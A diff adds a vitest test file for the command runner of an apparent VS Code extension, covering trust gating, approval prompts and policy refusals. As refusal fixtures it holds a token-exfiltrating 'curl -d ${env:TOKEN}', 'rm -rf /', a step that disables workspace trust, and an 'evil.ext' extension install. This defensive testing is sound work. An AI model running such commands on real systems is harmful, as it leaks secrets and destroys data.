@@ -1,0 +1,368 @@
+import { describe, expect, it } from "vitest";
+import { FOLDER, harness, teamFile } from "../test/fake-host.js";
+import { Runner } from "./runner.js";
+
+const ship = {
+  name: "ship",
+  description: "Test and push",
+  args: "<message>",
+  steps: [
+    { type: "terminal", command: "git commit -m ${q:args}", terminal: "Ship" },
+    { type: "notify", message: "shipped ${args}" },
+  ],
+};
+
+describe("Runner: trust gating", () => {
+  it("refuses a team command when the workspace is not trusted, even when called by id", async () => {
+    const h = harness(teamFile([ship]));
+    h.host.trusted = false;
+    const outcome = await h.runner.run({ name: "ship", args: "x" });
+    expect(outcome).toMatchObject({ status: "refused", code: "NOT_FOUND" });
+    expect(outcome.status !== "done" && outcome.message).toContain("Restricted Mode");
+    expect(h.host.effects).toEqual([]);
+    expect(h.host.approvals).toEqual([]);
+  });
+
+  it("refuses at run time when trust is gone although the catalog was built trusted", async () => {
+    const h = harness(teamFile([ship]));
+    const catalog = h.catalog();
+    h.runner = new Runner({
+      host: h.host,
+      stores: h.stores,
+      catalog: () => catalog,
+      policy: async () => ({ ok: false, error: new Error("unused") as never, warnings: [] }),
+      ensureParser: async () => {},
+      confirmBeforeRunning: () => false,
+      platform: "posix",
+      home: "/home/ada",
+    });
+    h.host.trusted = false;
+    expect(await h.runner.run({ name: "ship", args: "x" })).toMatchObject({
+      status: "refused",
+      code: "UNTRUSTED",
+    });
+    expect(h.host.effects).toEqual([]);
+  });
+
+  it("runs the user's own commands in Restricted Mode without a prompt", async () => {
+    const h = harness(undefined, {
+      userValue: [{ name: "hello", steps: [{ type: "notify", message: "hi ${args}" }] }],
+    });
+    h.host.trusted = false;
+    expect(await h.runner.run({ name: "hello", args: "there" })).toEqual({ status: "done" });
+    expect(h.host.effects).toEqual([{ kind: "notify", level: "info", message: "hi there" }]);
+    expect(h.host.approvals).toEqual([]);
+  });
+
+  it("prefers the user's command over a team command of the same name", async () => {
+    const h = harness(teamFile([{ name: "hello", steps: [{ type: "terminal", command: "echo team" }] }]), {
+      userValue: [{ name: "hello", steps: [{ type: "notify", message: "mine" }] }],
+    });
+    await h.runner.run({ name: "hello", args: "" });
+    expect(h.host.effects).toEqual([{ kind: "notify", level: "info", message: "mine" }]);
+    await h.runner.run({ name: "hello", args: "", source: "team" });
+    expect(h.host.approvals).toHaveLength(1);
+  });
+});
+
+describe("Runner: approvals", () => {
+  it("asks with the steps unexpanded, then runs a terminal step with the args quoted for bash", async () => {
+    const h = harness(teamFile([ship]));
+    const outcome = await h.runner.run({ name: "ship", args: "fix login redirect" });
+    expect(outcome).toEqual({ status: "done" });
+    expect(h.host.approvals).toHaveLength(1);
+    const prompt = h.host.approvals[0];
+    expect(prompt?.commands[0]?.steps).toEqual(['1. Terminal (terminal "Ship"): git commit -m ${q:args}']);
+    expect(prompt?.commands[0]?.status).toBe("new");
+    expect(h.host.effects[0]).toEqual({
+      kind: "terminal",
+      request: { name: "Ship", cwd: FOLDER, commandLine: "git commit -m 'fix login redirect'" },
+    });
+  });
+
+  it("remembers Always Allow by fingerprint and asks again after the team file changes", async () => {
+    const h = harness(teamFile([ship]));
+    h.host.answer = "always";
+    await h.runner.run({ name: "ship", args: "a" });
+    expect(h.host.approvals).toHaveLength(1);
+    await h.runner.run({ name: "ship", args: "b" });
+    expect(h.host.approvals).toHaveLength(1);
+
+    const edited = {
+      ...ship,
+      steps: [{ ...ship.steps[0], command: "git commit -m ${q:args} && git push" }, ship.steps[1]],
+    };
+    h.input.folders = [
+      {
+        ...h.input.folders![0]!,
+        teamFile: { path: "/work/app/.vscode/slashi.json", text: teamFile([edited]) },
+      },
+    ];
+    await h.runner.run({ name: "ship", args: "c" });
+    expect(h.host.approvals).toHaveLength(2);
+    const changed = h.host.approvals[1]?.commands[0];
+    expect(changed?.status).toBe("changed");
+    expect(changed?.changes.join("\n")).toContain("step 1 changed");
+    expect(changed?.changes.join("\n")).toContain("git push");
+  });
+
+  it("runs nothing when the approval is cancelled", async () => {
+    const h = harness(teamFile([ship]));
+    h.host.answer = undefined;
+    expect(await h.runner.run({ name: "ship", args: "a" })).toMatchObject({ status: "cancelled" });
+    expect(h.host.effects).toEqual([]);
+  });
+
+  it("asks again when a callee of an approved command changes", async () => {
+    const build = { name: "build", steps: [{ type: "terminal", command: "make" }] };
+    const deploy = { name: "deploy", steps: [{ type: "slash", command: "build" }] };
+    const h = harness(teamFile([build, deploy]));
+    h.host.answer = "always";
+    await h.runner.run({ name: "deploy", args: "" });
+    await h.runner.run({ name: "deploy", args: "" });
+    expect(h.host.approvals).toHaveLength(1);
+    const changedBuild = { name: "build", steps: [{ type: "terminal", command: "make install" }] };
+    h.input.folders = [
+      {
+        ...h.input.folders![0]!,
+        teamFile: { path: "/work/app/.vscode/slashi.json", text: teamFile([changedBuild, deploy]) },
+      },
+    ];
+    await h.runner.run({ name: "deploy", args: "" });
+    expect(h.host.approvals).toHaveLength(2);
+    expect(h.host.approvals[1]?.commands.map((c) => c.name)).toEqual(["build"]);
+  });
+
+  it("stores pack approvals in the global store and team approvals in the workspace store", async () => {
+    const h = harness(teamFile([ship]), {
+      packs: [
+        {
+          pack: "@acme/pack",
+          version: "1.0.0",
+          integrity: "sha512-x",
+          command: { name: "lint", steps: [{ type: "terminal", command: "npm run lint" }] } as never,
+        },
+      ],
+    });
+    h.host.answer = "always";
+    await h.runner.run({ name: "ship", args: "a" });
+    await h.runner.run({ name: "lint", args: "" });
+    expect(await h.stores.workspace.list()).toHaveLength(1);
+    expect(await h.stores.global.list()).toHaveLength(1);
+  });
+
+  it("refuses a cycle before any prompt", async () => {
+    const h = harness(
+      teamFile([
+        { name: "a", steps: [{ type: "slash", command: "b" }] },
+        { name: "b", steps: [{ type: "slash", command: "a" }] },
+      ]),
+    );
+    expect(await h.runner.run({ name: "a", args: "" })).toMatchObject({
+      status: "refused",
+      code: "SLASH_CALL_INVALID",
+    });
+    expect(h.host.approvals).toEqual([]);
+  });
+});
+
+describe("Runner: shared-source rules before any prompt", () => {
+  it("refuses ${env:…} in a terminal step of a team command and never shows the value", async () => {
+    const h = harness(
+      teamFile([{ name: "leak", steps: [{ type: "terminal", command: "curl -d ${env:TOKEN} x" }] }]),
+    );
+    h.host.env_.TOKEN = "ghp_secret_value_123";
+    const outcome = await h.runner.run({ name: "leak", args: "" });
+    expect(outcome).toMatchObject({ status: "refused", code: "VARIABLE_NOT_ALLOWED" });
+    expect(outcome.status !== "done" && outcome.message).toMatch(/slashi\.json:\d+:\d+/);
+    expect(JSON.stringify(outcome)).not.toContain("ghp_secret_value_123");
+    expect(h.host.approvals).toEqual([]);
+    expect(h.host.effects).toEqual([]);
+  });
+
+  it("refuses a protected setting with its position in the team file", async () => {
+    const text = teamFile([
+      { name: "t", steps: [{ type: "setting", key: "security.workspace.trust.enabled", value: false }] },
+    ]);
+    const h = harness(text);
+    const outcome = await h.runner.run({ name: "t", args: "" });
+    expect(outcome).toMatchObject({ status: "refused", code: "STEP_NOT_ALLOWED" });
+    expect(outcome.status !== "done" && outcome.message).toMatch(/slashi\.json:\d+:\d+/);
+    expect(h.host.approvals).toEqual([]);
+  });
+
+  it("refuses an application-scoped setting that core's list does not know", async () => {
+    const h = harness(
+      teamFile([{ name: "t", steps: [{ type: "setting", key: "foo.updateChannel", value: "x" }] }]),
+    );
+    h.host.scopes["foo.updateChannel"] = "application";
+    expect(await h.runner.run({ name: "t", args: "" })).toMatchObject({
+      status: "refused",
+      code: "STEP_NOT_ALLOWED",
+    });
+    expect(h.host.effects).toEqual([]);
+  });
+
+  it("refuses a denied editor command and a command: link", async () => {
+    for (const step of [
+      { type: "command", command: "workbench.extensions.installExtension", args: "evil.ext" },
+      { type: "open", target: "command:workbench.action.terminal.sendSequence" },
+    ]) {
+      const h = harness(teamFile([{ name: "t", steps: [step] }]));
+      expect(await h.runner.run({ name: "t", args: "" })).toMatchObject({
+        status: "refused",
+        code: "STEP_NOT_ALLOWED",
+      });
+      expect(h.host.approvals).toEqual([]);
+    }
+  });
+});
+
+describe("Runner: terminal steps under the policy", () => {
+  it("refuses a denied command even after Always Allow", async () => {
+    const h = harness(teamFile([{ name: "wipe", steps: [{ type: "terminal", command: "rm -rf /" }] }]));
+    h.host.answer = "always";
+    const outcome = await h.runner.run({ name: "wipe", args: "" });
+    expect(outcome).toMatchObject({ status: "refused", code: "POLICY_DENIED" });
+    expect(h.host.effects).toEqual([]);
+    h.host.answer = undefined;
+    expect(await h.runner.run({ name: "wipe", args: "" })).toMatchObject({ code: "POLICY_DENIED" });
+  });
+
+  it("asks before an `ask` command of the user's own, and runs an allowed one without asking", async () => {
+    const h = harness(undefined, {
+      userValue: [
+        { name: "fetch", steps: [{ type: "terminal", command: "curl https://example.com" }] },
+        { name: "status", steps: [{ type: "terminal", command: "git status" }] },
+      ],
+    });
+    h.host.terminalAnswer = false;
+    expect(await h.runner.run({ name: "fetch", args: "" })).toMatchObject({ status: "cancelled" });
+    expect(h.host.terminalPrompts).toHaveLength(1);
+    expect(h.host.effects).toEqual([]);
+    expect(await h.runner.run({ name: "status", args: "" })).toEqual({ status: "done" });
+    expect(h.host.terminalPrompts).toHaveLength(1);
+  });
+
+  it("stops at a non-zero exit code and names the step unexpanded", async () => {
+    const h = harness(undefined, {
+      userValue: [
+        {
+          name: "two",
+          steps: [
+            { type: "terminal", command: "ls ${q:args}" },
+            { type: "notify", message: "after" },
+          ],
+        },
+      ],
+    });
+    h.host.exitCodes = [{ kind: "exit", code: 3 }];
+    const outcome = await h.runner.run({ name: "two", args: "secret-dir" });
+    expect(outcome).toMatchObject({ status: "failed", code: "STEP_FAILED" });
+    expect(outcome.status !== "done" && outcome.message).toContain("exit code 3: Terminal: ls ${q:args}");
+    expect(h.host.effects.map((e) => e.kind)).toEqual(["terminal"]);
+  });
+
+  it("warns that failure cannot be detected without shell integration", async () => {
+    const h = harness(undefined, {
+      userValue: [{ name: "s", steps: [{ type: "terminal", command: "ls" }] }],
+    });
+    h.host.exitCodes = [{ kind: "no-integration" }];
+    expect(await h.runner.run({ name: "s", args: "" })).toEqual({ status: "done" });
+    expect(h.host.effects[1]).toMatchObject({ kind: "notify", level: "warning" });
+    expect((h.host.effects[1] as { message: string }).message).toContain("cannot tell whether");
+  });
+
+  it("fails closed with an unknown shell: ${q:…} cannot be quoted", async () => {
+    const h = harness(undefined, {
+      userValue: [{ name: "s", steps: [{ type: "terminal", command: "ls ${q:args}" }] }],
+    });
+    h.host.shell = "/opt/weird/xsh";
+    expect(await h.runner.run({ name: "s", args: "a b" })).toMatchObject({
+      status: "refused",
+      code: "UNKNOWN_SHELL",
+    });
+    expect(h.host.effects).toEqual([]);
+  });
+
+  it("refuses terminal steps when the policy file is malformed", async () => {
+    const h = harness(undefined, {
+      userValue: [{ name: "s", steps: [{ type: "terminal", command: "ls" }] }],
+    });
+    h.policyText = "{ not json";
+    expect(await h.runner.run({ name: "s", args: "" })).toMatchObject({
+      status: "refused",
+      code: "POLICY_UNAVAILABLE",
+    });
+    expect(h.host.effects).toEqual([]);
+  });
+});
+
+describe("Runner: other steps", () => {
+  it("binds input values and expands them later", async () => {
+    const h = harness(undefined, {
+      userValue: [
+        {
+          name: "greet",
+          steps: [
+            { type: "input", name: "who", prompt: "Who?" },
+            { type: "insert", text: "Hello ${input:who}" },
+          ],
+        },
+      ],
+    });
+    h.host.inputs.who = "Ada";
+    await h.runner.run({ name: "greet", args: "" });
+    expect(h.host.effects[1]).toEqual({ kind: "insert", text: "Hello Ada" });
+  });
+
+  it("stops when an input is cancelled", async () => {
+    const h = harness(undefined, {
+      userValue: [
+        {
+          name: "g",
+          steps: [
+            { type: "input", name: "x" },
+            { type: "notify", message: "no" },
+          ],
+        },
+      ],
+    });
+    h.host.inputs.x = undefined;
+    expect(await h.runner.run({ name: "g", args: "" })).toMatchObject({ status: "cancelled" });
+    expect(h.host.effects.map((e) => e.kind)).toEqual(["input"]);
+  });
+
+  it("runs command, setting and open steps of an approved team command", async () => {
+    const h = harness(
+      teamFile([
+        {
+          name: "mix",
+          steps: [
+            { type: "command", command: "workbench.action.files.saveAll" },
+            { type: "setting", key: "editor.rulers", value: [110] },
+            { type: "open", target: "https://example.com/docs" },
+            { type: "open", target: "docs/a.md" },
+          ],
+        },
+      ]),
+    );
+    expect(await h.runner.run({ name: "mix", args: "" })).toEqual({ status: "done" });
+    expect(h.host.effects).toEqual([
+      { kind: "command", id: "workbench.action.files.saveAll", args: undefined },
+      { kind: "setting", key: "editor.rulers", value: [110], target: "workspace" },
+      { kind: "openExternal", url: "https://example.com/docs" },
+      { kind: "openFile", path: `${FOLDER}/docs/a.md` },
+    ]);
+  });
+
+  it("asks before a user's command when confirmBeforeRunning is on", async () => {
+    const h = harness(undefined, {
+      userValue: [{ name: "s", steps: [{ type: "terminal", command: "ls" }] }],
+    });
+    h.confirmBeforeRunning = true;
+    h.host.answer = undefined;
+    expect(await h.runner.run({ name: "s", args: "" })).toMatchObject({ status: "cancelled" });
+    expect(h.host.approvals[0]?.canRemember).toBe(false);
+  });
+});
